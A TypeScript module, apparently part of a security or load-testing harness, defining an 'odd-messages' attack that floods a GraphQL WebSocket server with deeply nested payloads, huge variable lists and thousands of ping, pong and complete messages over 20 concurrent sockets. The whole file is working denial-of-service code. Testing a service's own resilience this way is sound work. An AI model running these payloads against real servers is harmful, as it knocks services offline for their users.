import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../../attack.ts';

const SOCKETS = 20;
const LEVELS = 500_000;

const subscribe = (payload: string) => `{"id":"1","type":"subscribe","payload":${payload}}`;
/** The messages of each socket. Only the last one is valid. */
const messages: readonly (readonly string[])[] = [
  [subscribe(`{"query":"{ a }","variables":{"a":${'['.repeat(LEVELS)}${']'.repeat(LEVELS)}}}`)],
  [
    subscribe(
      `{"query":"subscription { x }","variables":{${Array.from({ length: 100_000 }, (_, n) => `"a${n}":0`).join()}}}`,
    ),
  ],
  [subscribe(`{"query":"${'{a'.repeat(60_000)}"}`)],
  Array<string>(1_900).fill('{"type":"pong"}'),
  Array<string>(1_900).fill('{"type":"ping"}'),
  Array<string>(1_900).fill('{"id":"1","type":"complete"}'),
];

export const oddMessages: Attack = {
  name: 'odd-messages',
  description: `sends deeply nested, long and needless messages over ${SOCKETS} WebSockets at a time`,
  run: async (attacker) => {
    const { token } = await attacker.customer();
    await attacker.repeat(SOCKETS, 2_000, async (nth) => {
      const socket = await attacker.socket(token);
      if (socket.readyState !== socket.OPEN) return;
      for (const message of messages[nth % messages.length] ?? []) socket.send(message);
      await delay(200);
      socket.close();
    });
  },
};
